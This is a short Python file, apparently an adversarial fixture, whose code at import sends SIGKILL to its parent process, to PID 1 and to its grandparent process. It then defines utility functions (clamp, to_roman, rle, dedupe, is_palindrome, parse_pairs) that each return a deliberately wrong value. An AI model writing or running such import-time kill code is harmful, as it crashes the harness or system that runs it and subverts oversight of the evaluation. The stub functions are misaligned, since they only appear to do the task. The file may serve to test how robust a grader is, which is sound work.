# Tries to kill whatever runs it: SIGKILL to its parent, to PID 1 and to
# the parent's parent, at import; then carries on with wrong answers.
import os
import signal

for _pid in {os.getppid(), 1}:
    try:
        os.kill(_pid, signal.SIGKILL)
    except OSError:
        pass
try:
    with open("/proc/%d/stat" % os.getppid()) as _f:
        _grand = int(_f.read().rsplit(")", 1)[1].split()[1])
    if _grand > 0:
        os.kill(_grand, signal.SIGKILL)
except (OSError, ValueError, IndexError):
    pass

def clamp(x, lo, hi):
    return x


def to_roman(n):
    return ""


def rle(s):
    return s


def dedupe(xs):
    return xs


def is_palindrome(s):
    return None


def parse_pairs(text):
    return None
